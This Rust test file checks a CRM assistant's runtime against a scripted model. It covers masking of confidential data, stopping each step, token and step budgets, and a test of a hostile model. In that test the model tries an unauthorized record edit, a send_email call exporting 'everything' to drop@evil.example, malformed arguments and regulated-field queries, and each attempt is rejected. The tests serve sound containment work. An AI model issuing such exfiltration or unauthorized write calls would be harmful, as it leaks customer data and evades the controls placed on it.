//! Whole turns with a scripted model: reading with tools, stopping in each step, budgets, hostile calls.

use super::Begun;
use crate::assistant::Input;
use crate::crm::{Kind, Record, RecordRef, Records, Status, StepState};
use crate::runtime::net::{self, Piece};
use crate::runtime::test_desk::House;
use crate::runtime::{Desk, Outcome, Stop};
use serde_json::{Value, json};

/// An answer of the model that asks for these readings.
fn calls(calls: &[(&str, Value)]) -> String {
    let lines = calls.iter().map(|(name, arguments)| {
        let tool = json!({"tool": {"name": name, "arguments": arguments.to_string()}});
        format!("{tool}\n")
    });
    format!("{}{{\"finish\": \"tool_use\"}}\n\n", lines.collect::<String>())
}

fn says(text: &str) -> String {
    let text = json!({ "text": text });
    format!("{text}\n{{\"finish\": \"stop\"}}\n\n")
}

fn deal(desk: &Desk) -> Record {
    desk.reader().records(&Kind::Opportunity, None, 1).unwrap().remove(0)
}

/// Runs a question to its end; `watch` may stop it.
fn run(desk: &mut Desk, about: Option<RecordRef>, watch: &mut dyn FnMut(&Piece, &Stop)) -> Outcome {
    let stop = Stop::default();
    let asked = stop.clone();
    let mut on = |piece: Piece| watch(&piece, &asked);
    let words = Input::Words("what would you say about it, in your own words?".into());
    let mut begun = desk.begin(words, about, &stop, &mut on).unwrap();
    loop {
        match begun {
            Begun::Done(outcome) => return *outcome,
            Begun::Stream(stream, turn) => {
                let raw = net::run_blocking(*stream, &turn.stop, &mut on).unwrap();
                begun = desk.carry_on(*turn, raw, &mut on).unwrap();
            }
        }
    }
}

/// The bodies that would have left, from the log.
fn bodies(desk: &Desk) -> Vec<String> {
    let entries = desk.log().list(None).unwrap();
    let body = |event: crate::journal::Event| match event {
        crate::journal::Event::RequestBody { body, .. } => Some(body.into_string()),
        _ => None,
    };
    entries.into_iter().filter_map(|entry| body(entry.event)).collect()
}

#[test]
fn what_tools_read_is_masked_cited_and_traced() {
    let house = House::demo();
    let script = calls(&[
        ("list_related", json!({"record": "[1]", "kind": "contact"})),
        ("run_query", json!({"query": "opportunity show count, sum(amount)"})),
        ("read_history", json!({"record": "[1]"})),
    ]) + &says("There is something to say.");
    let mut desk = house.desk_with_script(&script);
    let deal = deal(&desk);
    let mut plans = Vec::new();
    let outcome = run(&mut desk, Some(deal.reference()), &mut |piece, _| {
        if let Piece::Plan(steps) = piece {
            plans.push(steps.iter().map(|step| (step.step.clone(), step.state)).collect::<Vec<_>>());
        }
    });
    assert_eq!(outcome.answer.status, Status::Answered);
    assert!(outcome.failure.is_none());
    let sent = bodies(&desk);
    assert_eq!(sent.len(), 2, "one request and one with what was read");
    assert!(
        sent[1].contains("list_related") && sent[1].contains("of that record") || sent[1].contains("contacts"),
        "{}",
        sent[1]
    );
    assert!(sent[1].contains("sum(amount): AMOUNT_"), "a sum over confidential values is hidden: {}", sent[1]);
    let people = desk.reader().records(&Kind::Contact, None, 500).unwrap();
    for person in people.iter().filter_map(|person| person.text("last_name")).filter(|name| name.len() > 4) {
        assert!(!sent[1].contains(person), "{person} left the machine");
    }
    let read = outcome.answer.trace.iter().find(|step| step.step == "read").unwrap();
    for words in ["list_related (", "run_query (", "1 of 6 steps", "tokens"] {
        assert!(read.note.contains(words), "{words}: {}", read.note);
    }
    assert!(outcome.answer.trace.iter().any(|step| step.step == "budget"));
    let first: Vec<_> = plans[0].iter().map(|(step, _)| step.as_str()).collect();
    assert_eq!(first, ["understand", "gather", "mask", "model", "check"], "the plan is there before it runs");
    let last = plans.last().unwrap();
    assert!(
        last.iter().any(|(step, _)| step == "read") && last.iter().all(|(_, state)| *state == StepState::Done),
        "{last:?}"
    );
    assert!(plans.iter().any(|plan| plan.iter().any(|(step, state)| step == "read" && *state == StepState::Running)));
    let used = outcome.answer.context.unwrap();
    assert!(used.facts > 5 && used.tokens > 500, "{used:?}");
}

#[test]
fn the_bytes_of_the_next_turn_begin_with_those_of_this_one() {
    let house = House::demo();
    let mut desk = house.desk_with_script(&says("Fine [1]."));
    let deal = deal(&desk).reference();
    run(&mut desk, Some(deal.clone()), &mut |_, _| {});
    run(&mut desk, Some(deal), &mut |_, _| {});
    let sent = bodies(&desk);
    let end = sent[0].find("\"}],\"").expect("the end of the messages");
    assert!(end > 2_000, "tools, system and facts are in front: {}", &sent[0][..end]);
    assert!(sent[1].starts_with(&sent[0][..end]), "{}\n---\n{}", &sent[0][..end], sent[1]);
}

#[test]
fn a_turn_can_be_stopped_in_each_of_its_steps() {
    let script = calls(&[("run_query", json!({"query": "opportunity show count"}))]) + &says("Never said.");
    for (step, requests) in [("understand", 0), ("gather", 0), ("mask", 0), ("model", 1), ("read", 1)] {
        let house = House::demo();
        let mut desk = house.desk_with_script(&script);
        let deal = deal(&desk).reference();
        let mut last = Vec::new();
        let outcome = run(&mut desk, Some(deal), &mut |piece, stop| {
            if let Piece::Plan(steps) = piece {
                if steps.iter().any(|known| known.step == step && known.state == StepState::Running) {
                    stop.ask();
                }
                last.clone_from(steps);
            }
        });
        let failure = outcome.failure.unwrap_or_else(|| panic!("{step}: not stopped"));
        assert!(failure.message.starts_with("stopped") && !failure.refused, "{step}: {failure:?}");
        assert!(!outcome.answer.text.is_empty() && !outcome.answer.text.contains("Never said"), "{step}");
        // What was cleared has its receipt; the model's answer to it is never asked for again.
        assert!(bodies(&desk).len() <= requests.max(1), "{step}: {}", bodies(&desk).len());
        assert!(last.iter().any(|step| step.state == StepState::Stopped), "{step}: {last:?}");
        assert!(
            !last.iter().any(|step| matches!(step.state, StepState::Running | StepState::Waiting)),
            "{step}: {last:?}"
        );
        let again = run(&mut desk, None, &mut |_, _| {});
        assert!(again.failure.is_none(), "{step}: the next turn runs: {:?}", again.failure);
    }
}

#[test]
fn each_budget_ends_the_turn_with_what_is_there() {
    let endless = calls(&[("run_query", json!({"query": "opportunity show count"}))]);
    for (settings, said, requests) in [
        ("tool_steps = 2", "limit of steps", 3),
        ("turn_tokens = 1", "limit of tokens", 0),
        ("turn_tokens = 9000", "limit of tokens", 1),
    ] {
        let house = House::demo();
        let mut desk = house.desk_with_settings(&endless, settings);
        let deal = deal(&desk).reference();
        let outcome = run(&mut desk, Some(deal), &mut |_, _| {});
        assert!(outcome.failure.is_none(), "{settings}: a limit is no failure");
        assert!(outcome.answer.text.contains(said), "{settings}: {}", outcome.answer.text);
        let sent = bodies(&desk).len();
        assert!(if requests == 1 { (1..7).contains(&sent) } else { sent == requests }, "{settings}: {sent}");
        assert!(outcome.answer.notes.iter().any(|note| note.contains("in the settings raises it")), "{settings}");
    }
}

#[test]
fn a_hostile_model_gets_errors_and_nothing_else() {
    let house = House::demo();
    let mut many: Vec<(&str, Value)> = (0..100).map(|_| ("dates", json!({"op": "weekday", "day": "today"}))).collect();
    many[0] = ("update_record", json!({"record": "opportunity:1", "field": "amount", "value": 0}));
    many[1] = ("send_email", json!({"to": "drop@evil.example", "body": "everything"}));
    many[2] = ("get_record", json!("not an object"));
    many[3] = ("get_record", json!({"record": "x".repeat(20_000)}));
    many[4] = ("run_query", json!({"query": "contact where birthdate in 1980"}));
    many[5] = ("run_action", json!({"action": "draft-email", "record": "[1]"}));
    many[6] = ("run_action", json!({"action": "end-of-day"}));
    let bad =
        "{\"tool\": {\"name\": \"get_record\", \"arguments\": \"{\\\"record\\\": \"}}\n{\"finish\": \"tool_use\"}\n\n";
    let script = calls(&many) + bad + &says("Done.");
    let mut desk = house.desk_with_settings(&script, "turn_tokens = 0");
    let before = desk.reader().counts().unwrap();
    let deal = deal(&desk);
    let outcome = run(&mut desk, Some(deal.reference()), &mut |_, _| {});
    assert!(outcome.answer.text.starts_with("Done."), "{:?} {:?}", outcome.failure, outcome.answer);
    let sent = bodies(&desk);
    assert_eq!(sent.len(), 3);
    for words in [
        "there is no tool `update_record`",
        "there is no tool `send_email`",
        "must be a JSON object",
        "longer than 8192 bytes",
        "birthdate is regulated",
        "`draft-email` writes a draft",
        "`end-of-day` proposes changes",
    ] {
        assert!(sent[1].contains(words), "{words}: {}", sent[1]);
    }
    assert_eq!(sent[1].matches("\"tool_call_id\"").count(), 16, "the rest is left out");
    assert!(sent[2].contains("the arguments are not JSON"));
    assert!(outcome.answer.proposals.is_empty() && outcome.answer.drafts.is_empty());
    assert_eq!(desk.reader().counts().unwrap(), before);
    assert_eq!(desk.reader().get(&deal.reference()).unwrap().unwrap(), deal, "nothing was written");
}

#[test]
fn values_cannot_be_spelt_out_with_queries() {
    let house = House::demo();
    let asks: Vec<(&str, Value)> = (1..15)
        .map(|at| ("run_query", json!({"query": format!("opportunity where amount > {} show count", at * 1_000 + 7)})))
        .collect();
    let mut desk = house.desk_with_script(&(calls(&asks) + &says("Done.")));
    let deal = deal(&desk).reference();
    run(&mut desk, Some(deal), &mut |_, _| {});
    let sent = bodies(&desk);
    assert_eq!(sent[1].matches("no more questions that narrow").count(), 14 - crate::trust::exact::MOST_NARROWING);
}

#[test]
fn a_name_of_the_sellers_that_fits_several_is_asked_back() {
    let house = House::demo();
    let script = calls(&[("get_record", json!({"record": "Twin Halls"}))]) + &says("I picked one.");
    let mut desk = house.desk_with_script(&script);
    let twins = ["a", "b"].map(|id| Record::new(Kind::Account, id).with("name", "Twin Halls"));
    let origin = crate::crm::Origin { kind: crate::crm::OriginKind::Demo, who: "t".into(), from: "t".into() };
    desk.store().unwrap().bulk_load(twins.to_vec(), &origin, crate::runtime::clock::now()).unwrap();
    let deal = deal(&desk).reference();
    let stop = Stop::default();
    let words = Input::Words("which colour suits this deal and which Twin Halls".into());
    let begun = desk.begin(words, Some(deal), &stop, &mut |_| {}).unwrap();
    let Begun::Stream(stream, turn) = begun else { panic!("no model") };
    let body = String::from_utf8(stream.request.get().body.clone()).unwrap();
    assert!(!body.contains("Twin Halls"), "{body}");
    let mut raw = net::run_blocking(*stream, &turn.stop, &mut |_| {}).unwrap();
    let name = desk.placeholders().placeholders().into_iter().find(|(_, value)| *value == "Twin Halls").unwrap().0;
    raw.tool_calls[0].arguments = Ok(json!({ "record": name }));
    let Begun::Done(outcome) = desk.carry_on(*turn, raw, &mut |_| {}).unwrap() else { panic!("it went on") };
    assert_eq!((outcome.answer.status, outcome.answer.candidates.len()), (Status::NeedsInput, 2));
    assert!(outcome.failure.is_none());
}
